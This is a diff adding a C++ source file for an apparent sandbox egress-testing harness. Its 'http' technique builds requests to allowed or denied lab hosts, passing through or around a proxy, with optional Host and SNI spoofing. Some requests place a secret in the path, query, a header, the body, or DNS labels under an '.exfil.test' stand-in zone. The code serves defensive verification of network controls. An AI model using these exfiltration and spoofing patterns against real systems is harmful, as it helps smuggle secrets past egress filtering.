@@ -1,0 +1,191 @@
+// The http technique: one request to an allowed or a denied place, through the proxy or past it, in clear or in TLS, by
+// the prober or by curl; with or without a secret somewhere in it; with or without a lie in Host or SNI.
+#include "attacks/carrier.h"
+#include "attacks/curl.h"
+#include "attacks/exchange.h"
+#include "harness/digest.h"
+
+namespace bottle {
+
+std::string url_of(const Exchange& exchange) {
+  const bool usual = exchange.uri_port == (exchange.tls ? 443 : 80);
+  return (exchange.tls ? "https://" : "http://") + exchange.uri_host +
+         (usual ? "" : ":" + std::to_string(exchange.uri_port)) + exchange.target;
+}
+
+namespace {
+
+// Zones of the lab in which no name is ever allowed.
+constexpr std::string_view kDeniedZone = ".denied.test";
+constexpr std::string_view kExfilZone = ".exfil.test";
+
+std::string bracketed(const std::string& literal) {
+  return literal.find(':') == std::string::npos ? literal : "[" + literal + "]";
+}
+
+bool is_literal(const std::string& host) {
+  return host.front() == '[' || host.find_first_not_of("0123456789.") == std::string::npos;
+}
+
+// Where the attack wants to go: the host in the URI, and the address behind it for a client that goes there itself.
+void set_target(const Choice& choice, const Brief& brief, Exchange& exchange) {
+  const std::string target = chosen(choice, "target", "allowed");
+  exchange.uri_port = exchange.tls ? 443 : 80;
+  if (target == "allowed") {
+    exchange.uri_host = brief.allowed_host;
+    exchange.dial = brief.allowed_address;
+  } else if (target == "denied-host") {
+    exchange.uri_host = brief.nonce + std::string(kDeniedZone);
+    exchange.dial.address = brief.denied_address;
+  } else if (target == "denied-ip" || target == "denied-ip6") {
+    const std::string& literal = target == "denied-ip" ? brief.denied_address : brief.denied_address6;
+    exchange.uri_host = bracketed(literal);
+    exchange.dial.address = literal;
+  } else {  // a canary
+    const Endpoint& canary = brief.canaries.at(target);
+    exchange.uri_host = bracketed(canary.address);
+    exchange.uri_port = canary.port;
+    exchange.dial.address = canary.address;
+  }
+  exchange.dial.port = exchange.uri_port;
+}
+
+void set_message(const Choice& choice, const Brief& brief, Exchange& exchange) {
+  const std::string secret = carried_secret(choice, brief);
+  const std::string position = chosen(choice, "position", "none");
+  exchange.agent = "bottle-verify/" + brief.nonce;
+  exchange.target = "/bottle/" + brief.nonce;
+  if (secret.empty()) return;
+  if (position == "path") exchange.target += "/" + secret;
+  if (position == "query") exchange.target += "?data=" + to_percent_reserved(secret);
+  if (position == "header") exchange.headers.emplace_back("X-Data", secret);
+  if (position == "body") exchange.body = "data=" + secret;
+  if (position == "host") exchange.uri_host = as_labels(secret) + "." + brief.nonce + std::string(kExfilZone);
+}
+
+void set_road(const Choice& choice, const Brief& brief, Exchange& exchange) {
+  const std::string via = chosen(choice, "via", "proxy");
+  if (via == "proxy") exchange.dial = brief.route.proxy;
+  if (via == "egress") exchange.dial = brief.route.egress;
+  exchange.through_proxy = via != "direct";
+}
+
+// What is said about the target besides its address: a lie where the choice asks for one.
+void set_names(const Choice& choice, const Brief& brief, Exchange& exchange) {
+  const std::string spoof = chosen(choice, "spoof", "none");
+  const bool usual = exchange.uri_port == (exchange.tls ? 443 : 80);
+  exchange.host = exchange.uri_host + (usual ? "" : ":" + std::to_string(exchange.uri_port));
+  exchange.sni = is_literal(exchange.uri_host) ? "" : exchange.uri_host;
+  if (spoof == "host") exchange.host = brief.allowed_host;
+  if (spoof == "sni") exchange.host = exchange.sni = brief.allowed_host;
+  if (spoof == "pin") exchange.uri_host = exchange.host = exchange.sni = brief.allowed_host;
+}
+
+void try_with_prober(const Exchange& exchange, Attempt& attempt) {
+  const std::string authority = exchange.uri_host + ":" + std::to_string(exchange.uri_port);
+  const std::string uri = exchange.through_proxy && !exchange.tls ? url_of(exchange) : exchange.target;
+  std::string request = (exchange.body.empty() ? "GET " : "POST ") + uri + " HTTP/1.1\r\nHost: " + exchange.host +
+                        "\r\nUser-Agent: " + exchange.agent + "\r\nAccept: */*\r\n";
+  for (const auto& [name, value] : exchange.headers) request += name + ": " + value + "\r\n";
+  if (!exchange.body.empty()) {
+    request += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " +
+               std::to_string(exchange.body.size()) + "\r\n";
+  }
+  request += "Connection: close\r\n\r\n" + exchange.body;
+  attempt.action = {{"action", "http"},
+                    {"address", exchange.dial.address},
+                    {"port", exchange.dial.port},
+                    {"request", to_base64(request)}};
+  if (exchange.through_proxy && exchange.tls) {
+    const std::string connect = "CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority +
+                                "\r\nUser-Agent: " + exchange.agent + "\r\n\r\n";
+    attempt.action["connect"] = to_base64(connect);
+    attempt.sent.push_back(segment("connect", connect));
+  }
+  if (exchange.tls) {
+    attempt.action["tls"] = {{"sni", exchange.sni}, {"verify", exchange.verify}, {"ca", exchange.ca_file}};
+  }
+  attempt.sent.push_back(segment("request", request));
+}
+
+// The harmless twin: through the proxy to the allowed host, or to the echo where the variant goes past the proxy.
+Choice twin_of(const Choice& choice) {
+  Choice twin;
+  for (const char* kept : {"scheme", "via", "client"}) {
+    if (choice.contains(kept)) twin[kept] = choice.at(kept);
+  }
+  twin["target"] = "allowed";
+  return twin;
+}
+
+std::string missing_part(const Choice& choice, const Brief& brief) {
+  const std::string via = chosen(choice, "via", "proxy");
+  const std::string target = chosen(choice, "target", "allowed");
+  if (via == "proxy" && brief.route.proxy.port == 0) return "this bundle has no proxy";
+  if (via == "egress" && brief.route.egress.port == 0) return "this bundle has no egress daemon of its own";
+  if (target == "denied-ip6" && !brief.route.ipv6) return "no IPv6 on this kernel";
+  if (target.starts_with("host-") && !brief.canaries.contains(target)) return "the host has no such address";
+  return {};
+}
+
+Attempt build(const Choice& given, const Brief& brief) {
+  Attempt attempt{.nonce = brief.nonce};
+  attempt.not_applicable = missing_part(given, brief);
+  if (!attempt.not_applicable.empty()) return attempt;
+  const bool control = is_control(brief.arm);
+  const Choice choice = control ? twin_of(given) : given;
+  const std::string via = chosen(choice, "via", "proxy");
+  const std::string client = chosen(choice, "client", "prober");
+  const bool ipv6 = chosen(given, "target", "") == "denied-ip6" && via == "direct";
+
+  Exchange exchange{.tls = chosen(choice, "scheme", "http") == "https"};
+  exchange.ca_file = brief.route.ca_file;
+  exchange.verify = chosen(choice, "target", "allowed") == "allowed" && via == "proxy";
+  set_target(choice, brief, exchange);
+  set_message(choice, brief, exchange);
+  set_names(choice, brief, exchange);
+  set_road(choice, brief, exchange);
+  const bool to_echo = via != "proxy";
+  if (control && to_echo) {
+    exchange.dial = ipv6 ? brief.route.echo6 : brief.route.echo;
+    exchange.uri_host = exchange.host = bracketed(exchange.dial.address);
+    exchange.uri_port = exchange.dial.port;
+    exchange.host += ":" + std::to_string(exchange.uri_port);
+    exchange.sni = "";
+    exchange.through_proxy = false;
+  }
+  if (client == "curl") try_with_curl(exchange, attempt);
+  else try_with_prober(exchange, attempt);
+
+  attempt.channel = std::string(exchange.tls ? "https" : "http") +
+                    (to_echo ? std::string(" to the echo") + (ipv6 ? " over IPv6" : "") : " through the proxy") + ", " + client;
+  attempt.delivered_at = to_echo ? "echo" : "http";
+  attempt.secret = chosen(choice, "secret", "none") == "none" ? "" : chosen(choice, "secret", "none");
+  // A secret that sits in the host name is lost as soon as the name is looked up: then the nonce beside it is enough.
+  const bool in_host = chosen(choice, "position", "none") == "host";
+  attempt.leak = attempt.secret.empty() || in_host ? Attempt::Leak::nonce : Attempt::Leak::secret;
+  attempt.wall = via == "proxy" ? Layer::pipelock : Layer::network;
+  if (brief.arm == Arm::bare) {
+    attempt.place = Place::outside;
+    if (via == "egress") attempt.place = Place::bundle;
+    if (via == "direct" && chosen(choice, "target", "").starts_with("host-")) attempt.place = Place::host;
+  }
+  return attempt;
+}
+
+}  // namespace
+
+Technique make_technique_http() {
+  return {.name = "http",
+          .parameters = {{"target", {"allowed", "denied-host", "denied-ip", "denied-ip6", "host-loopback", "host-alias", "host-address"}},
+                         {"via", {"proxy", "direct", "egress"}},
+                         {"scheme", {"http", "https"}},
+                         {"client", {"prober", "curl"}},
+                         {"spoof", {"none", "host", "sni", "pin"}},
+                         {"secret", kSecretKinds},
+                         {"position", {"none", "path", "query", "header", "body", "host"}},
+                         {"encoding", kEncodings}},
+          .build = build};
+}
+
+}  // namespace bottle
